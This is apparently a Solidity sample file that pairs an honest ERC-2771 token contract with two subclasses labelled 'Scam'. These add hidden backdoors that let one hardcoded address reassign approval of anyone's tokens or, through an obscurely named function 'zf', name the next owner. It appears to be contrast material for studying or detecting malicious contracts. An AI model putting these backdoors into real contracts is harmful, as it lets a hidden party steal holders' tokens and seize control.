// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

// Single tokens with an owner in two steps, whose callers a forwarder in the code may name (ERC-2771).

contract HonestForwardedToken {
    address internal constant FORWARDER = 0x1111111111111111111111111111111111111111;
    mapping(uint256 => address) internal holders;
    mapping(address => uint256) public balanceOf;
    mapping(uint256 => address) public getApproved;
    mapping(address => mapping(address => bool)) public isApprovedForAll;
    address public owner = msg.sender;
    address public pendingOwner;

    function sender() internal view returns (address who) {
        if (msg.sender != FORWARDER || msg.data.length < 20) return msg.sender;
        return address(bytes20(msg.data[msg.data.length - 20:]));
    }

    function ownerOf(uint256 id) public view returns (address holder) {
        holder = holders[id];
        require(holder != address(0));
    }

    function approve(address to, uint256 id) external {
        address holder = ownerOf(id);
        require(to != holder);
        require(sender() == holder || isApprovedForAll[holder][sender()]);
        getApproved[id] = to;
    }

    function setApprovalForAll(address operator, bool isSet) external {
        require(operator != sender());
        isApprovedForAll[sender()][operator] = isSet;
    }

    function transferFrom(address from, address to, uint256 id) external {
        address holder = ownerOf(id);
        require(from == holder && to != address(0));
        require(sender() == holder || isApprovedForAll[holder][sender()] || sender() == getApproved[id]);
        delete getApproved[id];
        balanceOf[from]--;
        balanceOf[to]++;
        holders[id] = to;
    }

    function transferOwnership(address next) external {
        require(sender() == owner);
        pendingOwner = next;
    }

    function acceptOwnership() external {
        require(sender() == pendingOwner);
        delete pendingOwner;
        owner = sender();
    }
}

/// Whom the code names has anybody's tokens moved.
contract ScamForwardedLender is HonestForwardedToken {
    function lend(address to, uint256 id) external {
        require(msg.sender == 0x2222222222222222222222222222222222222222);
        getApproved[id] = to;
    }
}

/// Whom the code names says who comes after the owner.
contract ScamForwardedSuccessor is HonestForwardedToken {
    function zf(address next) external {
        require(sender() == 0x2222222222222222222222222222222222222222);
        pendingOwner = next;
    }
}
